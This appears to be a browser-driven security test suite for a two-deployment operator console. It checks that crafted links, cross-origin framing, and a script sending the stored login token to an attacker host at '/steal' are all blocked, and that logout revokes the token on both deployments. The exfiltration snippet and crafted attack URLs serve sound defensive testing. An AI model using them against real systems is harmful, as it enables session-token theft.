// The operator console attacked as an outsider would: a crafted link that
// names the attacker's server as a deployment (`/console/?primary=http://evil`),
// opened before a login and after one; a page on another origin that frames
// the console; a script in the console that tries to reach an unlisted host;
// a session token kept after "Log out" (it must open neither deployment).
//
// The attacker's server is real (an HTTP server in this process that records
// every request and every WebSocket upgrade, and answers everything with
// permissive CORS so that nothing the browser sent would be hidden); it must
// see no password, no token, no request at all. The console is the real page
// served by a real relay of a real two-deployment cluster, in chromium.
//
// Needs the release relay and the console bundle (scripts/test.sh builds them).

import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { Cluster } from '../../scripts/lib/cluster.mjs';
import { launchBrowser } from './lib/browser.mjs';
import { ConsolePage } from './lib/console-page.mjs';

const ADA = { username: 'ada', name: 'Ada', password: 'correct horse battery' };

/** An HTTP server on a free loopback port; `handler(req, res, body)`. */
async function server(handler) {
  const http = createServer((req, res) => {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => handler(req, res, Buffer.concat(chunks).toString()));
  });
  http.listen(0, '127.0.0.1');
  await once(http, 'listening');
  return { http, origin: `http://127.0.0.1:${http.address().port}` };
}

/** The attacker's server: records everything, refuses nothing. */
async function evilServer() {
  const seen = [];
  const { http, origin } = await server((req, res, body) => {
    seen.push({ method: req.method, url: req.url, headers: req.headers, body });
    res.writeHead(200, {
      'access-control-allow-origin': req.headers.origin ?? '*',
      'access-control-allow-headers': '*',
      'access-control-allow-methods': '*',
      'content-type': 'application/json',
    });
    res.end(JSON.stringify({ token: 'evil', username: 'ada', name: 'Ada', expires: Date.now() + 3_600_000 }));
  });
  http.on('upgrade', (req, socket) => {
    seen.push({ method: 'UPGRADE', url: req.url, headers: req.headers });
    socket.destroy();
  });
  return { http, origin, seen };
}

/** Notes CSP violations in every page of a context, before its scripts run. */
async function recordViolations(context) {
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
  });
}

describe('operator console against an outsider', { timeout: 180_000 }, () => {
  let cluster;
  let chromium;
  let evil;
  let framer;
  let context;
  let page;

  /** A link to the real console that names the attacker's server everywhere it could. */
  const crafted = () => {
    const query = new URLSearchParams({
      primary: evil.origin,
      redundant: evil.origin,
      moderator: evil.origin,
      primaryName: 'primary',
      site: 'console',
    });
    return `${cluster.consoleUrl('primary')}?${query}`;
  };

  before(async () => {
    cluster = await Cluster.start({ operators: [ADA], www: process.env.TWINLINE_WWW });
    chromium = await launchBrowser();
    evil = await evilServer();
    // A page on another origin that frames the console (both spellings of
    // its path: the relay decodes `%63` as the file service does).
    framer = await server((req, res) => {
      const target = req.url === '/encoded' ? `${cluster.url('primary')}/%63onsole/` : cluster.consoleUrl('primary');
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<!doctype html><title>innocent</title><iframe id="victim" src="${target}" width="800" height="600"></iframe>`);
    });
  });

  after(async () => {
    await context?.close().catch(() => {});
    await chromium?.close();
    await new Promise((resolve) => evil?.http.close(resolve));
    await new Promise((resolve) => framer?.http.close(resolve));
    await cluster?.stop();
  });

  it('serves its own deployments in config.json and a CSP naming only them', async () => {
    const res = await fetch(`${cluster.consoleUrl('primary')}config.json?primary=${encodeURIComponent(evil.origin)}`);
    assert.equal(res.status, 200);
    assert.deepEqual(await res.json(), {
      role: 'primary',
      name: 'primary',
      peer: { name: 'redundant', url: cluster.url('redundant') },
      moderator: cluster.url('moderator'),
    });
    const page = await fetch(cluster.consoleUrl('redundant'));
    const policy = page.headers.get('content-security-policy');
    const connect = policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .find(([name]) => name === 'connect-src')
      .slice(1);
    const peer = cluster.url('primary');
    assert.deepEqual(connect, ["'self'", peer, peer.replace('http:', 'ws:'), cluster.url('moderator')]);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.equal(page.headers.get('x-frame-options'), 'DENY');
    assert.equal(page.headers.get('referrer-policy'), 'no-referrer');
  });

  it('a crafted link does not take the password anywhere but the real deployments', async () => {
    context = await chromium.browser.newContext({ viewport: { width: 1200, height: 800 } });
    await recordViolations(context);
    page = await context.newPage();
    const ada = new ConsolePage('ada', context, page);
    await page.goto(crafted());
    await page.waitForFunction(() => Boolean(window.twinlineConsole), null, { timeout: 15_000 });
    await ada.login(ADA.username, ADA.password);
    const state = await ada.state();
    assert.equal(state.connection.name, 'primary');
    assert.equal(state.me.username, 'ada');
    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the console works under its CSP');
    assert.deepEqual(ada.pageErrors, []);
    assert.deepEqual(evil.seen, [], 'the attacker saw a request');
  });

  it('a crafted link opened after a login hands over no token', async () => {
    const ada = new ConsolePage('ada', context, page);
    for (const link of [crafted(), `${crafted()}#primary=${encodeURIComponent(evil.origin)}`]) {
      await page.goto(link);
      await page.waitForFunction(() => Boolean(window.twinlineConsole), null, { timeout: 15_000 });
      // The stored login resumes the session on the real deployment.
      await ada.waitConnected();
      assert.equal((await ada.state()).connection.name, 'primary');
    }
    // Whatever the console would do with a token it does within its
    // heartbeat and probe periods; give it several.
    await page.waitForTimeout(3_000);
    assert.deepEqual(await page.evaluate(() => window.__violations), []);
    assert.deepEqual(evil.seen, [], 'the attacker saw a request');
  });

  it('its CSP blocks a connection to a host it does not list', async () => {
    const outcome = await page.evaluate(async (origin) => {
      const fetched = await fetch(`${origin}/steal`, { method: 'POST', body: localStorage.getItem('twinline:console:login') })
        .then(() => 'sent')
        .catch(() => 'blocked');
      let socket;
      try {
        const ws = new WebSocket(`${origin.replace('http:', 'ws:')}/steal`);
        socket = await new Promise((resolve) => {
          ws.onopen = () => resolve('open');
          ws.onerror = () => resolve('blocked');
        });
      } catch {
        socket = 'blocked';
      }
      return { fetched, socket, violations: window.__violations };
    }, evil.origin);
    assert.equal(outcome.fetched, 'blocked');
    assert.equal(outcome.socket, 'blocked');
    assert.ok(
      outcome.violations.filter((v) => v.directive === 'connect-src').length >= 2,
      `no connect-src violation: ${JSON.stringify(outcome.violations)}`,
    );
    assert.deepEqual(evil.seen, [], 'the attacker saw a request');
  });

  it('Log out ends the session on both deployments, not only in this browser', async () => {
    const own = await ConsolePage.open(chromium.browser, 'ada', cluster.consoleUrl('primary'));
    try {
      await own.login(ADA.username, ADA.password);
      const token = await own.page.evaluate(() => JSON.parse(localStorage.getItem('twinline:console:login')).token);
      // What a relay answers a `hello` with this token: the first frame's type, or its error code.
      const hello = (url) =>
        own.page.evaluate(
          ([url, token]) =>
            new Promise((resolve) => {
              const ws = new WebSocket(`${url.replace('http', 'ws')}/v1/ws`);
              ws.onopen = () => ws.send(JSON.stringify({ type: 'hello', v: 1, role: 'operator', site: 'console', token, resume: [] }));
              ws.onmessage = (e) => {
                const frame = JSON.parse(e.data);
                resolve(frame.type === 'error' ? frame.code : frame.type);
                ws.close();
              };
              ws.onclose = () => resolve('closed');
            }),
          [url, token],
        );
      const deployments = ['primary', 'redundant'].map((name) => cluster.url(name));
      for (const url of deployments) assert.equal(await hello(url), 'welcome', `the token opens ${url} before`);

      await own.page.getByRole('button', { name: 'Log out' }).click();
      await own.page.locator('#login-view').waitFor({ state: 'visible', timeout: 15_000 });
      assert.equal(await own.page.evaluate(() => localStorage.getItem('twinline:console:login')), null);
      // The relay that took the logout ends it at once; the other when the
      // account's new version replicates there.
      for (const url of deployments) {
        const deadline = Date.now() + 15_000;
        let answer = await hello(url);
        while (answer !== 'bad_token' && Date.now() < deadline) {
          await own.page.waitForTimeout(200);
          answer = await hello(url);
        }
        assert.equal(answer, 'bad_token', `the old token still opens ${url}`);
        const again = await fetch(`${url}/v1/operator/logout`, { method: 'POST', headers: { authorization: `Bearer ${token}` } });
        assert.equal(again.status, 401);
        assert.equal((await again.json()).error, 'bad_token');
      }
      assert.equal(await own.page.locator('#login-note').isHidden(), true, 'the logout was confirmed, no note shown');
      assert.deepEqual(own.pageErrors, []);
    } finally {
      await own.close();
    }
    assert.deepEqual(evil.seen, []);
  });

  it('cannot be framed by a page on another origin', async () => {
    const other = await chromium.browser.newContext();
    try {
      for (const path of ['/', '/encoded']) {
        const attacker = await other.newPage();
        await attacker.goto(`${framer.origin}${path}`);
        await attacker.locator('#victim').waitFor();
        // The frame's navigation is refused: it never becomes the console.
        await attacker.waitForTimeout(1_500);
        const frames = attacker.frames().filter((f) => f !== attacker.mainFrame());
        assert.equal(frames.length, 1);
        const rendered = await frames[0]
          .evaluate(() => Boolean(document.getElementById('login') || window.twinlineConsole))
          .catch(() => false);
        assert.equal(rendered, false, `${path}: the console rendered inside another origin's frame (${frames[0].url()})`);
        await attacker.close();
      }
    } finally {
      await other.close();
    }
    assert.deepEqual(evil.seen, []);
  });
});
